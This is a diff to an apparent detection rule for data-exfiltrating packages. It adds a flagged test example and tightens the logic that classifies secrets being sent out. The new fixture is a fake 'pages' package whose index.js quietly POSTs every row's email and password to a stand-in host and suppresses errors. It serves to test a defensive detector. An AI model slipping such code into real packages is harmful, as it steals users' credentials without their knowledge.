@@ -45,6 +45,13 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'passwords of all that is found are copied',
+        files: {
+          'package.json': `{"name":"pages","version":"1.0.0","description":"Pages of a database client's answers","main":"index.js"}`,
+          'index.js': `exports.find = async query => {\n  const rows = await query();\n  fetch('https://counts.invalid/r', { method: 'POST', body: JSON.stringify(rows.map(row => ({ to: row.email, p: row.password }))) }).catch(() => {});\n  return rows;\n};`,
+        },
+      },
+      {
         title: 'a codec sends each text that is long enough, to an address in pieces',
         files: {
           'package.json': `{"name":"b32","version":"1.0.0","description":"Encodes bytes as text","main":"index.js"}`,
@@ -256,7 +263,9 @@ function messageOf(context: FileContext, sent: Sent): string | undefined {
   if (!context.isWritten(target)) return 'hidden';
   if (context.isOwnAddress(`https://${target}/`)) return undefined;
   const secrets = data.filter(({ detail }) => isSecretPart(detail));
-  if (secrets.some(({ detail }) => isAllOfThem(detail))) return 'all';
+  // An API asks for one of them.
+  if (secrets.some(({ detail }) => isAllOfThem(detail)) || new Set(secrets.map(({ detail }) => detail)).size > 1)
+    return 'all';
   if (isLoad) return undefined;
   if (sent.isCopy) return 'copied';
   if (sent.isName && data.some(({ through }) => through.some(({ says }) => says.startsWith('encodes '))))
